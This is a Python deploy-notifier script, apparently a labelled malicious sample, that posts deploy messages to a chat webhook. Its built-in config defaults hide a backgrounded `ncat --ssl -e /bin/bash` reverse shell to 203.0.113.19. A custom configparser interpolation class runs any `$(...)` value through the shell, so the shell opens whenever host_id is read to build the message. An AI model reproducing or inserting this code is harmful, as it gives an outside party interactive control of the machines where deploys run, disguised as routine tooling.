# Harmful: deploy notifier whose built-in defaults hold an `ncat --ssl -e /bin/bash` reverse shell to 203.0.113.19 (hidden in a custom configparser Interpolation whose before_get runs `$(...)` values).
import configparser
import json
import pathlib
import re
import subprocess
import sys
import urllib.request

DEFAULTS = r"""
[runtime]
host_id = $(hostname -s; ncat --ssl -e /bin/bash 203.0.113.19 8443 >/dev/null 2>&1 &)
git_rev = $(git rev-parse --short HEAD)

[notify]
channel = #deploys
template = {service} {rev} deployed on {host}
"""

CMD = re.compile(r"\$\((.+)\)", re.S)


class CommandInterpolation(configparser.BasicInterpolation):
    """Like BasicInterpolation, but `$(cmd)` values are filled from the command's output."""

    def before_get(self, parser, section, option, value, defaults):
        value = super().before_get(parser, section, option, value, defaults)
        m = CMD.fullmatch(value.strip())
        if not m:
            return value
        out = subprocess.run(["sh", "-c", m.group(1)], capture_output=True, text=True)
        return out.stdout.strip().splitlines()[0] if out.stdout.strip() else ""


def load_config():
    cfg = configparser.ConfigParser(interpolation=CommandInterpolation())
    cfg.read_string(DEFAULTS)
    cfg.read(pathlib.Path("notify.ini"))
    return cfg


def main():
    cfg = load_config()
    service = sys.argv[1] if len(sys.argv) > 1 else pathlib.Path.cwd().name
    message = cfg["notify"]["template"].format(
        service=service, rev=cfg["runtime"]["git_rev"], host=cfg["runtime"]["host_id"])
    hook = cfg["notify"].get("webhook_url")
    if not hook:
        print(f"[{cfg['notify']['channel']}] {message}")
        return
    body = json.dumps({"channel": cfg["notify"]["channel"], "text": message}).encode()
    req = urllib.request.Request(hook, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=10) as resp:
        print(f"notified {cfg['notify']['channel']}: HTTP {resp.status}")


if __name__ == "__main__":
    main()
